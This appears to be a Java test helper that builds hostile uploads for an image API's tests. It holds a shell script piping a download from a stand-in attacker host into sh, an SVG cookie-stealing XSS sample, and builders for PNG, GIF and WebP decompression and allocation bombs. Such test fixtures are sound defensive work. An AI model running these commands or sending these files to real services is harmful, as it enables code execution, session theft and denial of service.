package app.lightbox.api;

import app.lightbox.images.TestImages;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Files made to hurt an upload endpoint, built in code: bombs that declare far more than they hold, text
 * and scripts dressed as images, images cut short. Real images come from {@link TestImages}.
 */
final class HostileUploads {

    /** Signature (8 bytes) and IHDR chunk (25 bytes): where a PNG's other chunks may start. */
    private static final int PNG_AFTER_HEADER = 8 + 25;
    private static final int PNG_IEND_LENGTH = 12;

    private HostileUploads() {}

    static byte[] shellScript() {
        return TestImages.ascii("#!/bin/sh\ncurl -s https://evil.example/x | sh\n");
    }

    static byte[] htmlPage() {
        return TestImages.ascii("<!doctype html><title>cat</title><script>fetch('/api/v1/images')</script>");
    }

    static byte[] svgWithScript() {
        return TestImages.ascii("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\""
                + " height=\"10\"><script>alert(document.cookie)</script></svg>");
    }

    /**
     * A PNG header declaring {@code width} × {@code height}, and image data that inflates to
     * {@code inflatedBytes} of zeros from a few kilobytes: a decompression bomb.
     */
    static byte[] pngBomb(long width, long height, int inflatedBytes) {
        return concat(TestImages.pngHeader(width, height), pngChunk("IDAT", deflatedZeros(inflatedBytes)),
                pngChunk("IEND", new byte[0]));
    }

    /** A real PNG with a {@code tEXt} comment of {@code textBytes} bytes before its image data. */
    static byte[] pngWithLongText(int textBytes) {
        return pngWithChunk(TestImages.png(8, 8), comment(textBytes));
    }

    /** A real PNG of exactly {@code size} bytes, padded with a {@code tEXt} comment. */
    static byte[] pngOfSize(int size) {
        byte[] png = TestImages.png(8, 8);
        return pngWithChunk(png, comment(size - png.length - comment(0).length));
    }

    private static byte[] comment(int textBytes) {
        byte[] text = new byte[textBytes];
        Arrays.fill(text, (byte) 'a');
        return pngChunk("tEXt", concat(TestImages.ascii("Comment\0"), text));
    }

    /**
     * A real PNG with an XMP {@code zTXt} chunk that inflates to {@code inflatedBytes}: the location
     * stripper has to read XMP to find a location in it.
     */
    static byte[] pngWithXmpBomb(int inflatedBytes) {
        byte[] data = concat(TestImages.ascii("XML:com.adobe.xmp\0\0"), deflatedZeros(inflatedBytes));
        return pngWithChunk(pngChunk("zTXt", data));
    }

    /** A real PNG with an ICC profile ({@code iCCP}) that inflates to {@code inflatedBytes}. */
    static byte[] pngWithIccBomb(int inflatedBytes) {
        return pngWithChunk(pngChunk("iCCP", concat(TestImages.ascii("bomb\0\0"), deflatedZeros(inflatedBytes))));
    }

    /** A real PNG with a text chunk whose length field claims 2 GB, followed by a few bytes only. */
    static byte[] pngWithTextClaiming2Gb() {
        byte[] chunk = concat(u32be(0x7FFF_FFF0L), TestImages.ascii("tEXtComment\0only this"));
        return pngWithChunk(chunk);
    }

    /** A GIF of 10 × 10 whose one frame is 60000 × 50000: decoders allocate the frame. */
    static byte[] gifWithHugeFrame() {
        return TestImages.gifWithFrames(10, 10, 60_000, 50_000);
    }

    /** An extended WebP whose canvas is the largest the format allows, 16777216 × 16777216. */
    static byte[] webpWithHugeCanvas() {
        return TestImages.webpExtended(1 << 24, 1 << 24);
    }

    /** An animated WebP of 100 × 100 whose one frame is {@code frameSide} × {@code frameSide}. */
    static byte[] webpAnimationWithHugeFrame(int frameSide) {
        return TestImages.webpAnimation(100, 100, frameSide, frameSide);
    }

    /** The first {@code fraction} of a real JPEG: its headers whole, its scan data cut off. */
    static byte[] jpegCutInItsScan(double fraction) {
        byte[] jpeg = TestImages.jpeg(200, 150);
        return Arrays.copyOf(jpeg, (int) (jpeg.length * fraction));
    }

    /** The first 300 bytes of a real JPEG: cut before its frame header is complete. */
    static byte[] jpegCutInItsHeader() {
        byte[] jpeg = TestImages.jpeg(200, 150);
        int startOfFrame = indexOf(jpeg, (byte) 0xFF, (byte) 0xC0);
        return Arrays.copyOf(jpeg, startOfFrame + 4);
    }

    /** A new 8 × 8 PNG with the chunk inserted after its header. */
    private static byte[] pngWithChunk(byte[] chunk) {
        return pngWithChunk(TestImages.png(8, 8), chunk);
    }

    private static byte[] pngWithChunk(byte[] png, byte[] chunk) {
        return concat(Arrays.copyOf(png, PNG_AFTER_HEADER), chunk, Arrays.copyOfRange(png, PNG_AFTER_HEADER, png.length));
    }

    static byte[] pngChunk(String type, byte[] data) {
        byte[] typed = concat(TestImages.ascii(type), data);
        CRC32 crc = new CRC32();
        crc.update(typed);
        return concat(u32be(data.length), typed, u32be(crc.getValue()));
    }

    /** Whether a PNG has a chunk of this type (by its four letters, wherever they are). */
    static boolean hasPngChunk(byte[] png, String type) {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        return indexOf(Arrays.copyOf(png, png.length - PNG_IEND_LENGTH), name) >= 0;
    }

    private static byte[] deflatedZeros(int count) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        try {
            byte[] zeros = new byte[64 * 1024];
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buffer = new byte[64 * 1024];
            for (int left = count; left > 0; left -= zeros.length) {
                deflater.setInput(zeros, 0, Math.min(left, zeros.length));
                while (!deflater.needsInput()) {
                    out.write(buffer, 0, deflater.deflate(buffer));
                }
            }
            deflater.finish();
            while (!deflater.finished()) {
                out.write(buffer, 0, deflater.deflate(buffer));
            }
            return out.toByteArray();
        } finally {
            deflater.end();
        }
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    static int indexOf(byte[] data, byte... sought) {
        for (int i = 0; i + sought.length <= data.length; i++) {
            if (Arrays.equals(data, i, i + sought.length, sought, 0, sought.length)) {
                return i;
            }
        }
        return -1;
    }

    private static byte[] u32be(long v) {
        return new byte[] {(byte) (v >>> 24), (byte) (v >>> 16), (byte) (v >>> 8), (byte) v};
    }
}
